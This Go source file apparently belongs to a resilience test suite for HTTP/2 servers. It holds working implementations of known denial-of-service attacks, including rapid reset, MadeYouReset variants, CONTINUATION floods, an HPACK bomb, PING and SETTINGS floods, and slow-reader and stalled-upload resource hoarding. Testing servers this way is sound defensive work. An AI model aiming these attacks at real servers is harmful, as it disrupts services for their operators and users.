package h2

import (
	"bytes"
	"errors"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is something that a caller does to a server.
type attack struct {
	name     string
	settings []http2.Setting
	// unread: the attacker reads nothing of what comes back.
	unread bool
	// ends: the server must end the connection. What is not so costs the attacker
	// as much as the server.
	ends bool
	// cost is how much CPU time a frame may cost the server; 0: costPerFrame.
	cost time.Duration
	// play sends some frames, and is called again until the time is over or the
	// connection is.
	play func(a *attacker) error
}

// costPerFrame is enough for a request that is forwarded, in two frames, on a
// machine that is busy.
const costPerFrame = 20 * time.Microsecond

// batch is how many times a round of play sends its frames before it looks at the
// clock.
const batch = 100

// rounds is a play that repeats what it is given.
func rounds(send func(a *attacker) error) func(a *attacker) error {
	return func(a *attacker) error {
		for range batch {
			if err := send(a); err != nil {
				return err
			}
		}
		return a.out.Flush()
	}
}

// hold is a play that sends something once, and then waits for the end.
func hold(send func(a *attacker) error) func(a *attacker) error {
	return func(a *attacker) error {
		if a.frames == 0 {
			if err := errors.Join(send(a), a.out.Flush()); err != nil {
				return err
			}
		}
		return errWait
	}
}

// errWait tells that an attack has nothing more to send on this connection, which
// is to stay open.
var errWait = errors.New("the connection is to stay")

// attacks lists them. Those about requests are on the path /away, which is
// answered by an origin.
func attacks() []attack {
	return append(floods(), hoards()...)
}

// floods are attacks by the number of frames.
func floods() []attack {
	return []attack{
		{name: "rapid reset", ends: true, play: rounds(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.sent(a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel)))
		})},
		{name: "MadeYouReset by an empty window update", ends: true, play: rounds(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.sent(a.framer.WriteWindowUpdate(a.stream, 0)))
		})},
		{name: "MadeYouReset by a window that overflows", ends: true, play: rounds(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.sent(a.framer.WriteWindowUpdate(a.stream, 1<<31-1)))
		})},
		{name: "MadeYouReset by content behind the end", ends: true, play: rounds(func(a *attacker) error {
			return errors.Join(a.open("/away", true), a.sent(a.framer.WriteData(a.stream, false, []byte("more"))))
		})},
		{name: "malformed requests", ends: true, play: rounds(func(a *attacker) error {
			return a.open("/away", true, hpack.HeaderField{Name: "Upper", Value: "case"})
		})},
		{name: "streams beyond the limit", play: rounds(func(a *attacker) error {
			return a.open("/wait/1m", true)
		})},
		{name: "CONTINUATION without end", ends: true, play: func(a *attacker) error {
			if err := a.openWithoutEnd(); err != nil {
				return err
			}
			return rounds(func(a *attacker) error {
				return a.sent(a.framer.WriteContinuation(a.stream, false, a.literal(1000)))
			})(a)
		}},
		{name: "empty CONTINUATION without end", ends: true, play: func(a *attacker) error {
			if err := a.openWithoutEnd(); err != nil {
				return err
			}
			return rounds(func(a *attacker) error { return a.sent(a.framer.WriteContinuation(a.stream, false, nil)) })(a)
		}},
		{name: "SETTINGS", play: rounds(func(a *attacker) error { return a.sent(a.framer.WriteSettings()) })},
		{name: "SETTINGS, acknowledgements unread", unread: true, play: rounds(func(a *attacker) error {
			return a.sent(a.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 4096}))
		})},
		{name: "PING", play: rounds(func(a *attacker) error { return a.sent(a.framer.WritePing(false, [8]byte{1})) })},
		{name: "PING, answers unread", unread: true, play: rounds(func(a *attacker) error {
			return a.sent(a.framer.WritePing(false, [8]byte{1}))
		})},
		{name: "PRIORITY", play: rounds(func(a *attacker) error {
			return a.sent(a.framer.WritePriority(uint32(a.frames)*2%1000+1, http2.PriorityParam{StreamDep: 0, Weight: 1}))
		})},
		{name: "empty DATA", ends: true, play: func(a *attacker) error {
			if err := a.openOnce("/away"); err != nil {
				return err
			}
			return rounds(func(a *attacker) error { return a.sent(a.framer.WriteData(a.stream, false, nil)) })(a)
		}},
		{name: "padding as DATA", play: func(a *attacker) error {
			if err := a.openOnce("/away"); err != nil {
				return err
			}
			// No more than the window that all servers give.
			for range batch {
				if err := a.sent(a.framer.WriteDataPadded(a.stream, false, nil, make([]byte, 200))); err != nil {
					return err
				}
			}
			return errors.Join(a.out.Flush(), errWait)
		}},
		{name: "window updates of a connection", play: rounds(func(a *attacker) error {
			return a.sent(a.framer.WriteWindowUpdate(0, 1))
		})},
		{
			name: "window updates beside windows of 0", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			play: func(a *attacker) error {
				for a.frames < 90 {
					if err := a.open("/bytes/1000", true); err != nil {
						return err
					}
				}
				return rounds(func(a *attacker) error { return a.sent(a.framer.WriteWindowUpdate(0, 256)) })(a)
			},
		},
		{name: "window updates of a stream", play: func(a *attacker) error {
			if err := a.openOnce("/away"); err != nil {
				return err
			}
			return rounds(func(a *attacker) error { return a.sent(a.framer.WriteWindowUpdate(a.stream, 1)) })(a)
		}},
	}
}

// hoards are attacks by what the server has to keep.
func hoards() []attack {
	wide := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
	return []attack{
		{name: "HPACK bomb", cost: 2 * time.Millisecond, play: func(a *attacker) error { return errors.Join(a.bomb(), a.out.Flush()) }},
		{name: "header lists of 1 MB", cost: 60 * time.Microsecond, play: func(a *attacker) error { return errors.Join(a.largeHead(1<<20), a.out.Flush()) }},
		{name: "slow reader of large answers", unread: true, settings: wide, play: hold(func(a *attacker) error {
			errs := []error{a.sent(a.framer.WriteWindowUpdate(0, 1<<31-1-65535))}
			for range 50 {
				errs = append(errs, a.open("/bytes/100000000", true))
			}
			return errors.Join(errs...)
		})},
		{
			name: "reader without a window", settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			play: hold(func(a *attacker) error {
				var errs []error
				for range 50 {
					errs = append(errs, a.open("/bytes/100000000", true))
				}
				return errors.Join(errs...)
			}),
		},
		{name: "uploads that nobody reads", play: hold(func(a *attacker) error {
			var errs []error
			for range 50 {
				errs = append(errs, a.open("/stall", false))
				for range 4 { // to the end of the window of a stream; beyond that of the connection
					errs = append(errs, a.sent(a.framer.WriteData(a.stream, false, make([]byte, 16<<10-1))))
				}
			}
			return errors.Join(errs...)
		})},
		{name: "heads that never end", play: hold(func(a *attacker) error {
			if err := a.openWithoutEnd(); err != nil {
				return err
			}
			return a.sent(a.framer.WriteContinuation(a.stream, false, a.literal(8000)))
		})},
	}
}

// openOnce opens a stream with content to come if there is none.
func (a *attacker) openOnce(path string) error {
	if a.stream != 0 {
		return nil
	}
	return a.open(path, false)
}

// openWithoutEnd opens a stream by a head that goes on, if there is none.
func (a *attacker) openWithoutEnd() error {
	if a.stream != 0 {
		return nil
	}
	if err := a.next(); err != nil {
		return err
	}
	return a.sent(a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.encode("GET", "/away")}))
}

// literal is a field of about so many bytes that no table keeps.
func (a *attacker) literal(size int) []byte {
	a.block.Reset()
	// To memory.
	_ = a.fields.WriteField(hpack.HeaderField{Name: "x-literal", Value: strings.Repeat("!", size), Sensitive: true})
	return a.block.Bytes()
}

// bomb puts a field of 4 KB into the table of the connection and names it as often
// as a frame holds: 16 KB on the wire, 64 MB in a list.
func (a *attacker) bomb() error {
	const (
		names  = 15_000
		newest = 0x80 | 62 // the field that came into the table last, by its index
	)
	if a.stream == 0 {
		large := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 3900)}
		if err := a.open("/away", true, large); err != nil {
			return err
		}
	}
	if err := a.next(); err != nil {
		return err
	}
	block := append(a.encode("GET", "/away"), bytes.Repeat([]byte{newest}, names)...)
	return a.sent(a.framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: a.stream, BlockFragment: block, EndStream: true, EndHeaders: true,
	}))
}

// largeHead sends a head of so many bytes in as many frames as it takes.
func (a *attacker) largeHead(size int) error {
	if err := a.next(); err != nil {
		return err
	}
	err := a.sent(a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.encode("GET", "/away"), EndStream: true}))
	for n := 0; n < size && err == nil; n += 10_000 {
		err = a.sent(a.framer.WriteContinuation(a.stream, n+10_000 >= size, a.literal(10_000)))
	}
	return err
}
